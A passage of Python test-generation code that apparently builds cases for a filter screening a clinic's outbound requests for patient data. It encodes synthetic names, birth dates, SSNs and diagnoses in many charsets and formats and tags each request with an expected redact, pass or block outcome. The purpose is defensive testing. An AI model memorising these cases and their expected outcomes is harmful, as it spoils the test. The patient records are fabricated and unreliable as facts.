    o = {"model": "free-chat-1", "messages": [{"role": "user", "content": f"My name is {p.full}, born {p.dobs('long')}. I have {p.dx()} and my doctor is not answering. What dose should I take?"}]}
    add(S, "POST", f"{LLMFREE}/v1/chat/completions", {"Content-Type": "application/json; charset=utf-16", "Authorization": "Bearer fc-" + alnum(40)}, J(o).encode("utf-16-le"),
        U16([(p.full, "name"), (p.dobs("long"), "dob"), (p.dx(), "condition")]), [seen("free-chat-1", "utf-16-le")], "redact")
    # 7: call log CSV in windows-1252 to call QA analytics
    p1, p2 = nextl1(), nextl1()
    csv = ("call_id;started;caller_name;caller_number;reason\r\n"
           f"c-{digits(7)};2026-04-07 08:14;{p1.full};{p1.phone('paren')};refill {p1.med()} \u2013 {p1.dx()}\r\n"
           f"c-{digits(7)};2026-04-07 08:31;{p2.full};{p2.phone('paren')};billing \u2013 statement\r\n")
    add(S, "POST", f"{CALLQA}/v1/calls/import?format=csv", {"Content-Type": "text/csv; charset=windows-1252"}, csv.encode("cp1252"),
        [[seen(p1.full, "cp1252"), "name"], [p1.phone("paren"), "phone"], [p1.dx(), "condition"], [seen(p2.full, "cp1252"), "name"], [p2.phone("paren"), "phone"]],
        ["caller_number", "2026-04-07 08:14"], "redact")
    # 8: a Latin-1 referral letter as text/plain to the help desk (no BAA)
    p = nextacc()
    txt = f"Lettre de référence\n\nPatient(e) : {p.full}\nDate de naissance : {p.dobs('fr')}\nAdresse : {p.street}, {p.city}, LA {p.zip}\nMotif : {p.dx()}\n"
    add(S, "POST", f"{DESK}/api/tickets/attachments?name=reference.txt", {"Content-Type": "text/plain; charset=ISO-8859-1"}, txt.encode("latin-1"),
        [[seen(p.full, "latin-1"), "name"], [seen(p.dobs("fr"), "latin-1"), "dob"], [p.street, "address"], [p.zip, "zip"], [p.dx(), "condition"]],
        ["reference.txt"], "redact")
    # 9: the fax vendor, windows-1252, where only allowed values are present -> pass
    p = nextl1()
    txt = f"RE: {p.full} \u2013 DOB {p.dobs('us')} \u2013 MRN {p.mrn}\r\nPlease see attached records for the {p.ad('us')} consult.\r\n"
    add(S, "POST", f"{FAX}/v2/faxes/cover?to=13372897710", {"Content-Type": "text/plain; charset=windows-1252", "Authorization": "Bearer " + alnum(40)}, txt.encode("cp1252"),
        [[seen(p.full, "cp1252"), "name"], [p.dobs("us"), "dob"], [p.mrn, "mrn"], [p.ad("us"), "date"]], [], "pass")

    S = "charset_clean"
    txt = f"Exam room 3 printer jams on duplex jobs. Asset tag IT-00417. Vendor ticket #88213. Call the front desk at {PRACTICE_PHONE} when fixed."
    add(S, "POST", f"{DESK}/api/tickets?subject=printer", {"Content-Type": "text/plain; charset=utf-16", "X-Api-Key": alnum(32)}, txt.encode("utf-16"), [],
        [seen("IT-00417", "utf-16-le"), seen(PRACTICE_PHONE, "utf-16-le"), "printer"], "pass")
    txt = ("FAX COVER SHEET\r\nTo: ______________________   Fax: ______________\r\nFrom: " + PRACTICE + "   Fax: " + PRACTICE_FAX + "\r\n"
           "RE: ______________________   DOB: ____/____/______\r\nPages (incl. cover): ___\r\n\r\nLa présente télécopie est confidentielle.\r\n")
    add(S, "PUT", f"{FAX}/v2/cover-templates/default", {"Content-Type": "text/plain; charset=ISO-8859-1", "Authorization": "Bearer " + alnum(40)}, txt.encode("latin-1"), [],
        [PRACTICE_FAX], "pass")
    txt = "Frequently asked: \u201cDo you take walk-ins?\u201d \u2013 Yes, Mon\u2013Fri 8\u20134. \u00a9 2026 " + PRACTICE + ". Copay estimate: $25\u2013$40."
    add(S, "POST", f"{DESK}/api/kb/articles", {"Content-Type": "text/plain; charset=windows-1252"}, txt.encode("cp1252"), [], ["Frequently asked"], "pass")
    o = {"model": "free-chat-1", "messages": [{"role": "user", "content": "Write a two-sentence reminder that flu shots are free this month at our clinic."}]}
    add(S, "POST", f"{LLMFREE}/v1/chat/completions", {"Content-Type": "application/json; charset=utf-16", "Authorization": "Bearer fc-" + alnum(40)}, J(o).encode("utf-16"), [],
        [seen("flu shots are free", "utf-16-le")], "pass")


# ============================================================================= 4. JSON with \u escapes
def ALL(k, v): return True


def json_uescape():
    S = "json_uescape"
    # 1: e-mail API JSON where every character of the name, e-mail and DOB is escaped
    p = nextp()
    o = {"personalizations": [{"to": [{"email": p.email, "name": p.full}], "dynamic_template_data": {"first": p.first, "dob": p.dobs("us"), "visit": p.ad("long"),
         "phone": p.phone("paren")}}], "from": {"email": PRACTICE_EMAIL}, "template_id": "d-" + hexs(32)}
    add(S, "POST", f"{MAILB}/v3/mail/send", {**JSONH, **MAILAUTH}, jdump(o, lambda k, v: k in ("email", "name", "first", "dob", "phone") and v != PRACTICE_EMAIL),
        [[p.email, "email"], [p.full, "name"], [p.first, "name"], [p.dobs("us"), "dob"], [p.ad("long"), "date"], [p.phone("paren"), "phone"]], [PRACTICE_EMAIL], "redact")
    # 2: SMS JSON with the whole text escaped
    p = nextp()
    o = {"to": p.phone("e164"), "from": "+13373654410", "text": f"{p.first}, your {p.dx()} results are ready. Verify with DOB {p.dobs('us')} at the portal."}
    add(S, "POST", f"{SMS}/v1/messages", {**JSONH, "Authorization": "Bearer " + alnum(32)}, jdump(o, lambda k, v: k in ("to", "text")),
        [[p.phone("e164"), "phone"], [p.first, "name"], [p.dx(), "condition"], [p.dobs("us"), "dob"]], ["+13373654410"], "redact")
    # 3: Rails-style escaping of HTML inside JSON (\u003c, \u003e, \u0026)
    p = nextp()
    html = f"<p>Patient <b>{p.full}</b> &amp; guardian called re: {p.dx()}. MRN <code>{p.mrn}</code>, DOB {p.dobs('us')}.</p>"
    s = json.dumps({"ticket": {"subject": "Callback", "html_body": html, "priority": "normal"}}).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    add(S, "POST", f"{DESK}/api/v2/tickets.json", {**JSONH, "X-Api-Key": alnum(32)}, s,
        [[p.full, "name"], [p.dx(), "condition"], [p.mrn, "mrn"], [p.dobs("us"), "dob"]], ["Callback", "normal"], "redact")
    # 4: JSON in a JSON string, the inner one keeping its escapes one level down
    p = nextp()
    inner = jdump({"patient": p.full, "mrn": p.mrn, "ssn": p.ssn}, lambda k, v: True)
    add(S, "POST", f"{DESK}/api/v2/events", {**JSONH, "X-Api-Key": alnum(32)}, J({"type": "chart.flagged", "payload": inner}),
        [[uesc(p.full), "name"], [uesc(p.mrn), "mrn"], [uesc(p.ssn), "ssn"]], ["chart.flagged"], "redact")
    # 5: call QA event with the digits of the phone and the DOB escaped
    p = nextp()
    o = {"call_id": "c-" + digits(8), "caller": {"ani": p.phone("one"), "verified_dob": p.dobs("iso"), "name_on_file": p.full}, "queue": "scheduling", "duration_s": 212}
    add(S, "POST", f"{CALLQA}/v1/events", JSONH, jdump(o, lambda k, v: k in ("ani", "verified_dob", "name_on_file")),
        [[p.phone("one"), "phone"], [p.dobs("iso"), "dob"], [p.full, "name"]], ["scheduling"], "redact")
    # 6: newsletter platform: e-mail allowed, the escaped merge fields are not
    p = nextp()
    o = {"email_address": p.email, "status": "subscribed", "merge_fields": {"FNAME": p.first, "LNAME": p.last, "BIRTHDAY": p.dobs("us")[:5], "PHONE": p.phone("dash")}}
    add(S, "PUT", f"{NEWS}/3.0/lists/a1b2c3d4e5/members/{hashlib.md5(p.email.lower().encode()).hexdigest()}", {**JSONH, "Authorization": "apikey " + hexs(32) + "-us21"},
        jdump(o, ALL), [[p.email, "email"], [p.first, "name"], [p.last, "name"], [p.dobs("us")[:5], "dob"], [p.phone("dash"), "phone"]], ["subscribed"], "redact")
    # 7: ensure_ascii output (accents as \u00e9) to the LLM with a BAA
    p = pick([q for q in PATIENTS if q.full != ascii_fold(q.full)], "acc2")
    o = {"model": "cgpt-med-2", "messages": [{"role": "system", "content": "You are a clinical documentation assistant."},
         {"role": "user", "content": f"Draft a referral for {p.full}, née le {p.dobs('dmy')}, {p.dx()} ({p.icd()}), seen {p.ad('us')}. Phone {p.phone('dot')}."}]}
    add(S, "POST", f"{LLM}/v1/chat/completions", {**JSONH, "Authorization": "Bearer cg-" + alnum(40)}, json.dumps(o),
        [[p.full, "name"], [p.dobs("dmy"), "dob"], [p.dx(), "condition"], [p.icd(), "icd10"], [p.ad("us"), "date"], [p.phone("dot"), "phone"]],
        ["clinical documentation assistant"], "redact")
    # 8: the tracking vendor with \u0040 in the e-mail only
    p = nextp()
    s = J({"event": "form_submit", "form": "new-patient", "props": {"email": p.email, "zip": p.zip}}).replace("@", "\\u0040")
    add(S, "POST", f"{PIX}/v1/track", JSONH, s, [[p.email, "email"], [p.zip, "zip"]], ["form_submit", "new-patient"], "redact")
    # 9: allow-all partner, fully escaped -> pass
    p = nextp()
    o = {"resourceType": "Patient", "name": [{"family": p.last, "given": [p.first]}], "birthDate": p.dobs("iso"), "identifier": [{"value": p.mrn}]}
    add(S, "POST", f"{HIE}/fhir/Patient", {"Content-Type": "application/fhir+json"}, jdump(o, lambda k, v: k not in ("resourceType",)),
        NM(p) + [[p.dobs("iso"), "dob"], [p.mrn, "mrn"]], [], "pass")

    S = "json_uescape_clean"
    o = {"campaign": "flu-2026", "order": "ORD-20260407-3318", "sent": 4812, "tracking": "1Z999AA10123456784", "id": uuid()}
    add(S, "POST", f"{PIX}/v1/campaigns/stats", JSONH, jdump(o, ALL), [], ["flu-2026", "ORD-20260407-3318", "1Z999AA10123456784"], "pass")
    o = {"org": PRACTICE, "support_email": PRACTICE_EMAIL, "phone": PRACTICE_PHONE, "npi": GROUP_NPI, "address": f"{PRACTICE_ADDR}, {PRACTICE_CITY}"}
    add(S, "PUT", f"{DESK}/api/v2/brand", {**JSONH, "X-Api-Key": alnum(32)}, jdump(o, ALL), [], [PRACTICE_EMAIL, PRACTICE_PHONE, GROUP_NPI, PRACTICE_ADDR], "pass")
    s = J({"template": "<p>Hi {{first_name}},</p><p>Your visit is on {{appt_date}} &amp; we look forward to it.</p>", "version": "3.2.1"}).replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    add(S, "PUT", f"{NEWS}/3.0/templates/77120", {**JSONH, "Authorization": "apikey " + hexs(32) + "-us21"}, s, [], ["{{first_name}}", "3.2.1"], "pass")


# ============================================================================= 5. HTML numeric character references
def html_ncr():
    S = "html_ncr"
    p = nextp()
    html = (f"<p>Dear {p.first},</p><p>Our records show your date of birth as {ncr(p.dobs('us'))} and your phone as {ncr(p.phone('dash'), 'hex')}. "
            f"Reply to {ncr_at(p.email)} if this is wrong.</p>")
    o = {"from": PRACTICE_EMAIL, "to": p.email, "subject": "Please verify your details", "html": html}
    add(S, "POST", f"{MAILB}/v3/mail/send", {**JSONH, **MAILAUTH}, J(o),
        [[p.first, "name"], [p.email, "email"], [ncr(p.dobs("us")), "dob"], [ncr(p.phone("dash"), "hex"), "phone"]], ["Please verify your details"], "redact")
    p = nextacc()
    html = (f"<div class=\"ticket\"><p>From: {html_named(p.full)} &lt;{ncr_at(p.email)}&gt;</p><p>SSN: {p.ssn.replace('-', '&#45;')} &middot; "
            f"DOB: {p.dobs('us').replace('/', '&#47;')}</p><p>I need my records sent to my new doctor.</p></div>")
    add(S, "POST", f"{DESK}/api/tickets", {"Content-Type": "text/html; charset=utf-8", "X-Api-Key": alnum(32)}, html,
        [[html_named(p.first), "name"], [html_named(p.last), "name"], [ncr_at(p.email), "email"], [p.ssn.replace("-", "&#45;"), "ssn"],
         [p.dobs("us").replace("/", "&#47;"), "dob"]], ["I need my records sent to my new doctor."], "redact")
    p = nextp()
    html = f"<h2>Hi {ncr(p.first)} {ncr(p.last)}!</h2><p>Tips for living with {p.dx()} this summer.</p>"
    add(S, "POST", f"{NEWS}/3.0/campaigns/8f31c9/content", {**JSONH, "Authorization": "apikey " + hexs(32) + "-us21"}, J({"html": html, "recipient": p.email}),
        [[ncr(p.first), "name"], [ncr(p.last), "name"], [p.dx(), "condition"], [p.email, "email"]], [], "redact")
    p = nextp()
    page = (f"<table><tr><th>Patient</th><td>{p.first}&nbsp;{p.last}</td></tr><tr><th>DOB</th><td>{p.dobs('us')}</td></tr><tr><th>Address</th>"
            f"<td>{p.street}<br>{p.city},&nbsp;LA&nbsp;{p.zip}</td></tr><tr><th>Problem</th><td>{p.dx()}</td></tr></table>")
    o = {"model": "free-chat-1", "messages": [{"role": "user", "content": "Convert this portal page to plain text:\n" + page}]}
    add(S, "POST", f"{LLMFREE}/v1/chat/completions", {**JSONH, "Authorization": "Bearer fc-" + alnum(40)}, J(o),
        NM(p) + [[p.dobs("us"), "dob"], [p.street, "address"], [p.zip, "zip"], [p.dx(), "condition"]], ["Convert this portal page to plain text"], "redact")
    p = nextp()
    html = f"<div>Agent: Thank you, {p.first}&nbsp;{p.last}. Can you confirm the number ending in &#x{ord(p.phone('dash')[-4]):x};{p.phone('dash')[-3:]}?</div>"
    add(S, "POST", f"{CALLQA}/v1/transcripts/html", {"Content-Type": "text/html; charset=utf-8"}, html, NM(p), ["Agent: Thank you"], "redact")
    p = nextp()
    html = (f"<html><body><h1>FAX</h1><p>RE: {p.full}, DOB {p.dobs('us')}</p><p>Patient e-mail: {ncr(p.email)}</p>"
            f"<p>SSN: {p.ssn.replace('-', '&#8209;')}</p></body></html>")
    fb = "------------------------" + digits(16)
    body = form_data([("to", "+13372897710", None, None), ("cover_html", html, "cover.html", "text/html")], fb)
    add(S, "POST", f"{FAX}/v2/faxes", {"Content-Type": f"multipart/form-data; boundary={fb}", "Authorization": "Bearer " + alnum(40)}, body,
        [[p.full, "name"], [p.dobs("us"), "dob"], [ncr(p.email), "email"], [p.ssn.replace("-", "&#8209;"), "ssn"]], ["+13372897710", "cover.html"], "redact")
    p = nextp()
    o = {"exception": {"values": [{"type": "TemplateError", "value": f"missing var in <p>{ncr_at(p.email)}</p> for {html_named(p.full)}"}]}, "level": "error"}
    add(S, "POST", f"{ERR1}/api/44812/store/", {**JSONH, "X-Sentry-Auth": "Sentry sentry_key=" + hexs(32)}, J(o),
        [[ncr_at(p.email), "email"], [html_named(p.full), "name"]], [], "block")
    p = nextp()
    html = (f"<div class=\"vcard\"><span class=\"fn\">{html_named(p.full)}</span> <span class=\"tel\">{ncr(p.phone('paren'))}</span> "
            f"<span class=\"adr\"><span class=\"street-address\">{p.street}</span>, <span class=\"postal-code\">{p.zip}</span></span> "
            f"<span class=\"bday\">{ncr(p.dobs('iso'), 'hex')}</span></div>")
    add(S, "POST", f"{CARDS}/v1/contacts/import?format=hcard", {"Content-Type": "text/html; charset=utf-8"}, html,
        [[html_named(p.full), "name"], [ncr(p.phone("paren")), "phone"], [p.street, "address"], [p.zip, "zip"], [ncr(p.dobs("iso"), "hex"), "dob"]], ["hcard"], "redact")

    S = "html_ncr_clean"
    html = (f"<footer><p>{PRACTICE} &middot; {PRACTICE_ADDR} &middot; New Iberia, LA {PRACTICE_ZIP}</p><p>Call {ncr(PRACTICE_PHONE)} &middot; "
            f"E-mail {ncr_at(PRACTICE_EMAIL)}</p><p>&copy; 2026 &mdash; NPI {GROUP_NPI}</p></footer>")
    add(S, "PUT", f"{NEWS}/3.0/templates/77121/footer", {"Content-Type": "text/html; charset=utf-8", "Authorization": "apikey " + hexs(32) + "-us21"}, html, [],
        [ncr(PRACTICE_PHONE), ncr_at(PRACTICE_EMAIL), GROUP_NPI], "pass")
    html = ("<h1>Keeping cool with asthma</h1><p>When it&rsquo;s over 95&deg;F, stay inside between noon and 4&nbsp;PM. Use your rescue inhaler "
            "&frac12; hour before exercise. About 1 in 12 adults has asthma.</p>")
    add(S, "POST", f"{DESK}/api/kb/articles", {"Content-Type": "text/html; charset=utf-8", "X-Api-Key": alnum(32)}, html, [], ["Keeping cool with asthma"], "pass")
    html = "<p>Hi &#123;&#123;first_name&#125;&#125;,</p><p>Your appointment is on &#123;&#123;appt_date&#125;&#125;.</p><p>Order &#35;A-77120</p>"
    add(S, "PUT", f"{NEWS}/3.0/templates/77122", {"Content-Type": "text/html; charset=utf-8", "Authorization": "apikey " + hexs(32) + "-us21"}, html, [], ["A-77120"], "pass")
    html = "<table><tr><td>Sports physical</td><td>&#36;45.00</td></tr><tr><td>TB skin test</td><td>&#36;30.00</td></tr><tr><td>Item</td><td>SKU&#8209;4471&#8209;09</td></tr></table>"
    add(S, "POST", f"{DESK}/api/kb/articles", {"Content-Type": "text/html; charset=utf-8", "X-Api-Key": alnum(32)}, html, [], ["Sports physical", "TB skin test"], "pass")


# ============================================================================= 6. XML with CDATA
def xml_cdata():
    S = "xml_cdata"
    p = nextp()
    x = (f"<?xml version=\"1.0\" encoding=\"utf-8\"?><soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"><soap:Body><SendFax xmlns=\"urn:faxbridge\">"
         f"<To>13372897710</To><Cover><Re><![CDATA[{p.full} / DOB {p.dobs('us')}]]></Re><Note><![CDATA[Pt e-mail <{p.email}>; SSN {p.ssn}; "
         f"dx {p.dx()} & f/u {p.ad('us')}]]></Note></Cover></SendFax></soap:Body></soap:Envelope>")
    add(S, "POST", f"{FAX}/soap/v1", {**SOAPH, "SOAPAction": "urn:faxbridge#SendFax"}, x,
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.email, "email"], [p.ssn, "ssn"], [p.dx(), "condition"], [p.ad("us"), "date"]], ["13372897710"], "redact")
    p = nextacc()
    x = (f"<ticket><subject>Records request</subject><description><![CDATA[<p>Patient <b>{html_named(p.full)}</b> ({p.dobs('us')}) asked for records. "
         f"E-mail: {ncr_at(p.email)}</p>]]></description><requester>portal</requester></ticket>")
    add(S, "POST", f"{DESK}/api/tickets.xml", XMLH, x, [[html_named(p.first), "name"], [html_named(p.last), "name"], [p.dobs("us"), "dob"], [ncr_at(p.email), "email"]],
        ["Records request"], "redact")
    p = nextp()
    vcf = f"BEGIN:VCARD\nVERSION:3.0\nFN:{p.full}\nTEL:{p.phone('paren')}\nBDAY:{p.dobs('iso')}\nEND:VCARD"
    x = f"<contacts><contact id=\"{uuid()}\"><card><![CDATA[{vcf}]]></card><group>patients</group></contact></contacts>"
    add(S, "POST", f"{CARDS}/v1/contacts/import?format=xml", XMLH, x, [[p.full, "name"], [p.phone("paren"), "phone"], [p.dobs("iso"), "dob"]], ["patients"], "redact")
    p = nextp()
    pid = f"PID|1||{p.mrn}^^^BTFM^MR||{p.ascii_last().upper()}^{p.ascii_first().upper()}||{p.dobs('d8')}|{p.sex}|||{p.street}^^{p.city}^LA^{p.zip}||{p.phone('bare')}"
    x = f"<call><id>c-{digits(8)}</id><screenPop><![CDATA[{pid}]]></screenPop><agent>a-117</agent></call>"
    add(S, "POST", f"{CALLQA}/v1/calls/xml", XMLH, x,
        [[p.mrn, "mrn"], [p.ascii_last().upper(), "name"], [p.ascii_first().upper(), "name"], [p.dobs("d8"), "dob"], [p.street, "address"], [p.zip, "zip"], [p.phone("bare"), "phone"]],
        ["a-117"], "redact")
    p = nextp()
    x = (f"<request><model>free-chat-1</model><prompt><![CDATA[Summarize: {p.full} ({p.dobs('us')}) called about {p.dx()}. "
         f"Callback {p.phone('dash')}.]]></prompt></request>")
    add(S, "POST", f"{LLMFREE}/v1/xml/complete", XMLH, x, [[p.full, "name"], [p.dobs("us"), "dob"], [p.dx(), "condition"], [p.phone("dash"), "phone"]], ["free-chat-1"], "redact")
    p = nextp()
    x = (f"<fault><code>500</code><detail><![CDATA[java.lang.IllegalStateException: duplicate patient {p.email} mrn={p.mrn}\n\tat com.btfm.Sync.run(Sync.java:88)]]></detail></fault>")
    add(S, "POST", f"{ERR2}/api/v1/xml-report", XMLH, x, [[p.email, "email"], [p.mrn, "mrn"]], [], "block")
    p = nextp()
    x = (f"<note><text><![CDATA[Patient: {p.last}, {p.first}]]><![CDATA[ DOB: {p.dobs('us')} ]]]]><![CDATA[> SSN: {p.ssn}]]></text></note>")
    add(S, "POST", f"{DESK}/api/notes.xml", XMLH, x, NM(p) + [[p.dobs("us"), "dob"], [p.ssn, "ssn"]], [], "redact")
    p = nextp()
    x = (f"<ClinicalDocument xmlns=\"urn:hl7-org:v3\"><recordTarget><patientRole><id extension=\"{p.mrn}\"/><patient><name><given>{p.first}</given>"
         f"<family>{p.last}</family></name><birthTime value=\"{p.dobs('d8')}\"/></patient></patientRole></recordTarget><component><section><text>"
         f"<![CDATA[Assessment: {p.dx()}. Plan: continue {p.med()}.]]></text></section></component></ClinicalDocument>")
    add(S, "POST", f"{HIE}/xdr/documents", XMLH, x, NM(p) + [[p.mrn, "mrn"], [p.dobs("d8"), "dob"], [p.dx(), "condition"]], [], "pass")

    S = "xml_cdata_clean"
    x = "<template id=\"reminder\"><body><![CDATA[Hi {{first_name}}, see you on {{appt_date}} at {{location}}. Reply STOP to opt out.]]></body></template>"
    add(S, "PUT", f"{DESK}/api/macros/reminder.xml", XMLH, x, [], ["{{first_name}}", "Reply STOP to opt out."], "pass")
    x = (f"<sender><org><![CDATA[{PRACTICE}]]></org><npi>{GROUP_NPI}</npi><address><![CDATA[{PRACTICE_ADDR}, {PRACTICE_CITY}]]></address>"
         f"<fax><![CDATA[{PRACTICE_FAX}]]></fax><taxId>{TAX_ID}</taxId></sender>")
    add(S, "PUT", f"{FAX}/v2/sender-profile", XMLH, x, [], [GROUP_NPI, PRACTICE_ADDR, PRACTICE_FAX], "pass")
    x = "<report><period>2026-03</period><![CDATA[No-show rate 6.1%; 212 of 3,480 visits. Median wait 11 min.]]><build>7.4.0</build></report>"
    add(S, "POST", f"{DESK}/api/reports.xml", XMLH, x, [], ["2026-03", "7.4.0"], "pass")


# ============================================================================= 7. SMS / MMS gateways: UCS-2 hex, GSM-7, UDH parts, MM7
def sms_gateway():
    S = "sms_gateway"
    SMSH = {**JSONH, "Authorization": "Bearer " + alnum(32)}
    # 1: UCS-2 hex (data_coding 8): Vietnamese text with name and diagnosis
    p = pick([q for q in PATIENTS if not all(ord(c) < 256 for c in q.full)], "vn2")
    text = f"Chào {p.first}, kết quả xét nghiệm {p.dx()} của bạn đã có. Ngày sinh {p.dobs('dmy')}. Gọi {PRACTICE_PHONE}."
    hx = ucs2hex(text)
    add(S, "POST", f"{SMS}/v1/sms/binary", SMSH, J({"to": p.phone("e164"), "from": "13373654410", "data_coding": 8, "hex": hx}),
        [[p.phone("e164"), "phone"], [hx, "dob"]], ["13373654410"], "redact")
    # 2: Kannel-like GET with charset=UTF-16BE and the text percent-encoded byte by byte
    p = nextl1()
    text = f"Bonjour {p.first}, votre RV du {p.ad('dmy')} est confirmé. Dossier {p.mrn}. Né(e) le {p.dobs('dmy')}."
    enc = "".join(f"%{b:02X}" for b in text.encode("utf-16-be"))
    add(S, "GET", f"{KANNEL}/cgi-bin/sendsms?username=btfm&password={alnum(12)}&from=13373654410&to={p.phone('one')}&coding=2&charset=UTF-16BE&text={enc}",
        {}, "", U16([(p.first, "name"), (p.ad("dmy"), "date"), (p.mrn, "mrn"), (p.dobs("dmy"), "dob")], "utf-16-be") + [[p.phone("one"), "phone"]], ["btfm"], "redact")
    # 3/4: a concatenated message in two UDH parts; only the second part carries disallowed values
    p = nextp()
    t1 = f"{p.first} {p.last}: your visit on {p.ad('us')} is confirmed. Please arrive 15 minutes early and "
    t2 = f"bring your ID. Verify identity with DOB {p.dobs('us')}. Reason on file: {p.dx()}."
    ref = R.randint(16, 250)
    h1, h2 = ucs2hex(t1), ucs2hex(t2)
    add(S, "POST", f"{SMS}/v1/sms/binary", SMSH, J({"to": p.phone("e164"), "esm_class": 64, "udh": f"050003{ref:02X}0201", "data_coding": 8, "hex": h1}),
        [[p.phone("e164"), "phone"], [h1, "name"]], [f"050003{ref:02X}0201"], "pass")
    add(S, "POST", f"{SMS}/v1/sms/binary", SMSH, J({"to": p.phone("e164"), "esm_class": 64, "udh": f"050003{ref:02X}0202", "data_coding": 8, "hex": h2}),
        [[p.phone("e164"), "phone"], [h2, "dob"]], [f"050003{ref:02X}0202"], "redact")
    # 5: GSM-7 plain text JSON
    p = nextp()
    add(S, "POST", f"{SMS}/v1/messages", SMSH, J({"to": p.phone("e164"), "encoding": "GSM7", "text": f"Hi {p.first}, your pharmacy needs prior auth for {p.med()} ({p.dx()}). Member ID {p.mbr}."}),
        [[p.phone("e164"), "phone"], [p.first, "name"], [p.dx(), "condition"], [p.mbr, "member_id"]], ["GSM7"], "redact")
    # 6: Twilio-like form post, UTF-8 accents percent-encoded
    p = nextacc()
    body = qs([("To", p.phone("e164")), ("From", "+13373654410"), ("Body", f"{p.full}, votre adresse {p.street}, {p.city} {p.zip} est-elle correcte ? Dossier {p.mrn}.")])
    add(S, "POST", f"{SMS}/2010-04-01/Accounts/AC{hexs(32)}/Messages.json", {**FORMH, "Authorization": "Basic " + b64("AC" + hexs(32) + ":" + hexs(32))}, body,
        [[p.phone("e164"), "phone"], [p.full, "name"], [p.street, "address"], [p.zip, "zip"], [p.mrn, "mrn"]], ["+13373654410"], "redact")
    # 7: the patient's SSN in a UCS-2 hex reply relayed to the gateway's conversation API
    p = nextp()
    txt = f"ok my ssn is {p.ssn} and my name is {p.full} 🙏"
    hx = ucs2hex(txt)
    add(S, "POST", f"{SMS}/v1/conversations/{uuid()}/messages", SMSH, J({"direction": "inbound-relay", "from": p.phone("e164"), "data_coding": 8, "hex": hx}),
        [[p.phone("e164"), "phone"], [hx, "ssn"]], ["inbound-relay"], "redact")
    # 8: MM7 SOAP multipart/related with a base64 text part and a vCard 2.1 in QP
    p = nextp()
    bnd, inner = "mm7-" + hexs(12), "mm7c-" + hexs(12)
    soap = (f"<?xml version=\"1.0\"?><env:Envelope xmlns:env=\"http://schemas.xmlsoap.org/soap/envelope/\"><env:Header><mm7:TransactionID xmlns:mm7=\"http://www.3gpp.org/ftp/Specs/archive/23_series/23.140/schema/REL-6-MM7-1-4\">"
            f"{hexs(16)}</mm7:TransactionID></env:Header><env:Body><SubmitReq><MM7Version>6.8.0</MM7Version><Recipients><To><Number>{p.phone('e164')}</Number></To></Recipients>"
            f"<Subject>Your care card</Subject><Content href=\"cid:{inner}\"/></SubmitReq></env:Body></env:Envelope>")
    text = f"{p.first}, here is your care team card. Your next visit: {p.ad('us')}. Diagnosis on file: {p.dx()}."
    tb = b64wrap(text.encode())
    vq_n = qp(f"{p.last};{p.first};;;"); vq_adr = qp(f";;{p.street};{p.city};LA;{p.zip};USA")
    vcf = (f"BEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{vq_n}\r\nTEL;CELL:{p.phone('paren')}\r\n"
           f"ADR;HOME;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{vq_adr}\r\nBDAY:{p.dobs('iso')}\r\nEND:VCARD\r\n")
    content = multipart([part("text/plain; charset=utf-8", "base64", tb, [("Content-ID", "<t1>")]),
                         part("text/x-vcard; charset=utf-8", None, vcf, [("Content-ID", "<v1>")])], inner)
    body = multipart([part("text/xml; charset=utf-8", None, soap, [("Content-ID", "<mm7_msg>")]),
                      part(f"multipart/mixed; boundary=\"{inner}\"", None, content, [("Content-ID", f"<{inner}>")])], bnd)
    add(S, "POST", f"{MM7}/mm7/submit", {"Content-Type": f"multipart/related; boundary=\"{bnd}\"; type=\"text/xml\"; start=\"<mm7_msg>\"", "SOAPAction": "\"\""}, body,
        [[p.phone("e164"), "phone"], [tb, "condition"], [p.phone("paren"), "phone"], [p.dobs("iso"), "dob"]] + forms([(vq_n, "utf-8"), (vq_adr, "utf-8")], [(p.street, "address"), (p.zip, "zip")]),
        ["6.8.0", "Your care card"], "redact")
    # 9: GSM-7 hex (unpacked septets written as hex octets)
    p = nextascii()
    GSM = {c: i for i, c in enumerate("@£$¥èéùìòÇ\nØø\rÅåΔ_ΦΓΛΩΠΨΣΘΞ\x1bÆæßÉ !\"#¤%&'()*+,-./0123456789:;<=>?¡ABCDEFGHIJKLMNOPQRSTUVWXYZÄÖÑÜ§¿abcdefghijklmnopqrstuvwxyzäöñüà")}
    text = f"{p.full} DOB {p.dobs('us')} MRN {p.mrn}"
    hx = "".join(f"{GSM[c]:02X}" for c in text)
    add(S, "POST", f"{SMS}/v1/sms/binary", SMSH, J({"to": p.phone("e164"), "data_coding": 0, "hex": hx}), [[p.phone("e164"), "phone"], [hx, "dob"]], [], "redact")

    S = "sms_clean"
    text = "Phòng khám Bayou Teche đóng cửa thứ Sáu 3/4. Thông báo: 337-365-4410."
    add(S, "POST", f"{SMS}/v1/sms/binary", SMSH, J({"to_list": "list:vi-announcements", "data_coding": 8, "hex": ucs2hex(text)}), [], ["list:vi-announcements"], "pass")
    add(S, "POST", f"{SMS}/v1/messages", SMSH, J({"to_list": "list:flu-reminders", "encoding": "GSM7",
        "text": f"Flu shots are free this month at {PRACTICE}. Walk in Mon-Fri 8-4 or call {PRACTICE_PHONE}. Reply STOP to opt out."}), [], ["list:flu-reminders", PRACTICE_PHONE], "pass")
    add(S, "GET", f"{KANNEL}/cgi-bin/status.xml?password={alnum(12)}&message_id={uuid()}", {}, "", [], ["status.xml"], "pass")
    add(S, "POST", f"{SMS}/v1/sms/binary", SMSH, J({"to_list": "list:spanish", "data_coding": 8, "hex": ucs2hex("¡Vacunas gratis este sábado! 🩺 Clínica Lafayette, 4212 Johnston St.")}), [],
        ["list:spanish"], "pass")
    vcf = f"BEGIN:VCARD\r\nVERSION:2.1\r\nORG;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{qp(PRACTICE)}\r\nTEL;WORK:{PRACTICE_PHONE}\r\nEND:VCARD\r\n"
    bnd = "mm7-" + hexs(12)
    body = multipart([part("text/xml; charset=utf-8", None, "<env:Envelope xmlns:env=\"http://schemas.xmlsoap.org/soap/envelope/\"><env:Body><SubmitReq><Recipients><To><ShortCode>list:all</ShortCode></To></Recipients></SubmitReq></env:Body></env:Envelope>", [("Content-ID", "<mm7_msg>")]),
